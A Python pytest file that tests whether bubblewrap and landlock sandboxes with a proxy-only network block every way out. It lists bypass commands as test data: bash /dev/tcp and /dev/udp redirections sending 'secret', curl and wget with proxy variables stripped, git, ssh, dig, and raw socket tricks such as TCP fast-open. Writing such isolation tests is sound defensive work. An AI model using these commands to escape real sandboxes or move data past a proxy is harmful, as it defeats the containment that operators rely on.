"""Ways out of a network in which there is only a proxy. What is outside listens at every address of this machine.

Each reaches it without the sandbox, else it would show nothing.
"""

import pytest

from tests.executors.sandbox.kit import BUBBLEWRAP, ORDINARY, USERS, WITH_COPIES, Runner
from tests.system.sandbox.test_attacks import connect, python

BARE = "env -u http_proxy -u https_proxy -u all_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY"


def sends(code: str, kind: str = "SOCK_DGRAM", family: str = "AF_INET", rest: str = "") -> str:
    return python(f"import socket\ns=socket.socket(socket.{family},socket.{kind}{rest})\n{code}")


PLACE = "(os.environ['ADDR'],int(os.environ['PORT']))"

WAYS = {
    "bash by TCP": 'exec 3<>"/dev/tcp/127.0.0.1/$PORT"',
    "bash by TCP to another address of this machine": 'exec 3<>"/dev/tcp/$ADDR/$PORT"',
    "bash by TCP over IPv6": 'exec 3<>"/dev/tcp/::1/$PORT"', "bash by UDP": 'echo secret >"/dev/udp/$ADDR/$PORT"',
    "curl": f"{BARE} curl -m 2 -sS http://$ADDR:$PORT/secret",
    "curl, told to use no proxy": "curl -m 2 -sS --noproxy '*' http://$ADDR:$PORT/secret",
    "wget": f"{BARE} wget -T 2 -t 1 -q -O- http://$ADDR:$PORT/secret",
    "git": "timeout 2 git ls-remote git://$ADDR:$PORT/secret",
    "git over http": f"timeout 2 {BARE} git ls-remote http://$ADDR:$PORT/secret",
    "ssh": "timeout 2 ssh -o StrictHostKeyChecking=no -p $PORT secret@$ADDR true",
    "a name server by UDP": "dig +time=1 +tries=1 -p $PORT @$ADDR secret.example.com",
    "a name server by TCP": "dig +tcp +time=1 +tries=1 -p $PORT @$ADDR secret.example.com",
    "sockets of UDP": sends(f"s.sendto(b'secret',{PLACE})"),
    "sockets of UDP, connected": sends(f"s.connect({PLACE})\ns.send(b'secret')"),
    "sockets of UDP over IPv6": sends("s.sendto(b'secret',('::1',int(os.environ['PORT'])))", family="AF_INET6"),
    "sockets of UDP, by sendmsg": sends(f"s.sendmsg([b'secret'],[],0,{PLACE})"),
    "sockets of TCP": sends(f"s.connect({PLACE})", "SOCK_STREAM"),
    "sockets of TCP over an IPv6 address of IPv4": sends(
        "s.connect(('::ffff:'+os.environ['ADDR'],int(os.environ['PORT'])))", "SOCK_STREAM", "AF_INET6"
    ),
    "sockets of TCP that connect by sending": sends(f"s.sendto(b'secret',0x20000000,{PLACE})", "SOCK_STREAM"),
    "sockets of TCP that connect by sending a message": sends(
        f"s.sendmsg([b'secret'],[],0x20000000,{PLACE})", "SOCK_STREAM"
    ),
    "sockets of several paths": sends(f"s.connect({PLACE})", "SOCK_STREAM", rest=",262"),
    "a socket outside": connect("os.environ['OUT']+'/s'"),
    "an abstract socket": connect("'\\0'+os.environ['ABSTRACT']"),
}  # fmt: skip
CASES = [
    pytest.param(WAYS[name], user, id=f"{name} ({user})")
    for name in WAYS
    for user, uid in USERS.items()
    if name != "ssh" or uid != ORDINARY  # It does not run as a user without a name.
]


@pytest.mark.parametrize(("script", "run_as"), CASES, indirect=["run_as"])
def test_nothing_outside_is_reached_but_the_proxy(script: str, run_as: Runner) -> None:
    control = run_as.run(script, None)
    assert control.reached, f"the detector is dead: {control}"
    for sandbox in (*BUBBLEWRAP, WITH_COPIES[0], "landlock"):
        done = run_as.run(f"({script}\n)\necho 'reached the end'", sandbox, network="proxy")
        assert not done.reached, f"{sandbox}: {done}"
        assert "reached the end" in done.out, f"{sandbox} did not run it: {done}"


@pytest.mark.parametrize("run_as", USERS, indirect=True)
def test_the_commands_of_a_session_share_a_network_of_their_own_that_nothing_leaves(run_as: Runner) -> None:
    script = "ping -c 1 -W 1 $ADDR >/dev/null && echo HIT; echo end"
    for sandbox in (*BUBBLEWRAP, "landlock"):
        done = run_as.run(script, sandbox, network="proxy")
        assert done.out == "end\n", f"{sandbox}: {done}"
    script = python(
        "import socket\ns=socket.create_server(('127.0.0.1',0))\n"
        "c=socket.create_connection(s.getsockname())\ns.accept()[0].send(b'HIT')\nprint(c.recv(9).decode())"
    )
    for sandbox in (*BUBBLEWRAP, WITH_COPIES[0]):
        assert "HIT" in run_as.run(script, sandbox, network="proxy").out
    for sandbox in BUBBLEWRAP:
        script = "readlink /proc/self/ns/net /proc/self/ns/user; tail -n +3 /proc/net/dev | grep -vc '^ *lo:'"
        inside, outside = run_as.run(script, sandbox, network="proxy"), run_as.run(script, None)
        net, user, others = inside.out.split()
        assert net not in outside.out and user not in outside.out and others == "0", inside
        assert run_as.run(script, sandbox, network="proxy").out.split()[0] == net, "one for all commands"
